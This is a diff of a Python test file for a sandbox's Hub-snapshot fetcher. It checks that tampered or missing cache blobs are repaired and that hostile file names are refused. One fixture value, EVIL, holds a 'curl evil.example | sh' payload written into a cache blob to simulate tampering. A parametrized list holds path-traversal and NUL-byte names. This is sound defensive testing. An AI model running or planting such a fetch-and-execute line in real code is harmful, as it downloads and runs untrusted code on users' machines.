@@ -4,9 +4,10 @@ from __future__ import annotations
 
 import contextlib
 import os
+import subprocess
 import traceback
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -20,31 +21,20 @@ from envhub_sandbox.errors import (
     SnapshotTooLargeError,
 )
 from envhub_sandbox.hub.reference import HubRef
-from envhub_sandbox.hub.snapshot import Snapshot, SnapshotLimits, fetch
+from envhub_sandbox.hub.snapshot import SnapshotLimits, fetch
+from envhub_sandbox.hub.store import remove_tree
 from tests.hub.stub_hub import StubHub, StubRepository
+from tests.integration.hub.conftest import Fetch
 
-Fetch = Callable[..., Snapshot]
 _MIB = 1 << 20
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
 
 
 @pytest.fixture
-def repository(stub_hub: StubHub) -> StubRepository:
-    """The repository that lies are planted in."""
-    return stub_hub.add("org/repo", {"env.py": GOOD, "assets/mesh.bin": b"m" * 5000})
-
-
-@pytest.fixture
-def get(stub_hub: StubHub, hub_cache: Path, repository: StubRepository) -> Fetch:
-    """``fetch`` the repository at its commit, with caches of this test only."""
-
-    def run(**rest: Any) -> Snapshot:
-        ref = HubRef("org/repo", repository.commit, repo_type="model")
-        arguments = {"hub_cache_dir": hub_cache, "token": False, "endpoint": stub_hub.endpoint}
-        return fetch(ref, **{**arguments, **rest})
-
-    return run
+def get(get: Fetch, repository: StubRepository) -> Fetch:
+    """``fetch`` at the repository's commit."""
+    return lambda **rest: get(f"models/org/repo@{repository.commit}", **rest)
 
 
 def stored_files(store: Path) -> list[Path]:
@@ -81,15 +71,16 @@ def test_other_commit_than_the_pinned_one_is_refused(stub_hub: StubHub, get: Fet
     assert pinned != repository.commit
 
 
-def test_edited_hub_cache_is_repaired_from_the_hub(
-    stub_hub: StubHub, get: Fetch, hub_cache: Path, snapshot_store: Path
+@pytest.mark.parametrize("damage", ["edited", "lost"])
+def test_damaged_hub_cache_is_repaired_from_the_hub(
+    stub_hub: StubHub, get: Fetch, hub_cache: Path, snapshot_store: Path, damage: str
 ) -> None:
-    """A blob of the Hub cache that somebody edited is noticed, and fetched again."""
+    """A blob of the Hub cache that somebody edited or removed is noticed, and fetched again."""
     first = get()
     blob = next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD)
     blob.chmod(0o644)
-    blob.write_bytes(EVIL)
-    _remove_store(snapshot_store)
+    blob.write_bytes(EVIL) if damage == "edited" else blob.unlink()
+    remove_tree(snapshot_store)
     before = len(requests_for_files(stub_hub))
     assert (get().root / "env.py").read_bytes() == GOOD
     assert blob.read_bytes() == GOOD
@@ -107,16 +98,6 @@ def test_hub_cache_may_be_named_from_the_home_folder(
     get(hub_cache_dir="~/hf")
     assert (tmp_path / "hf" / "models--org--repo").is_dir()
     assert not (tmp_path / "~").exists()
-
-
-def test_missing_file_in_the_hub_cache_is_fetched(
-    get: Fetch, hub_cache: Path, snapshot_store: Path
-) -> None:
-    """A Hub cache that lost a blob does not make a smaller snapshot."""
-    get()
-    next(path for path in hub_cache.rglob("blobs/*") if path.read_bytes() == GOOD).unlink()
-    _remove_store(snapshot_store)
-    assert (get().root / "env.py").read_bytes() == GOOD
 
 
 def test_edited_hub_cache_does_not_reach_the_store(get: Fetch, hub_cache: Path) -> None:
@@ -223,7 +204,7 @@ def test_endless_listing_is_left_at_the_limit(stub_hub: StubHub, get: Fetch) -> 
         "./a",
         "a\\..\\b",
         "a\nb",
-        "a\0b",
+        "a\x00b",
     ],
 )
 def test_hostile_name_is_refused_before_the_download(
@@ -416,16 +397,8 @@ def test_a_login_in_a_bad_endpoint_is_not_shown() -> None:
     assert "host" in str(caught.value)
 
 
-def _remove_store(store: Path) -> None:
-    from envhub_sandbox.hub.store import remove_tree
-
-    remove_tree(store)
-
-
 def _run_advice(message: str) -> None:
     """Carry out the command that an error ends with."""
-    import subprocess
-
     command = message.rpartition("fetched again: ")[2]
     assert command.startswith("chmod -R u+w ")
     subprocess.run(command, shell=True, check=True)
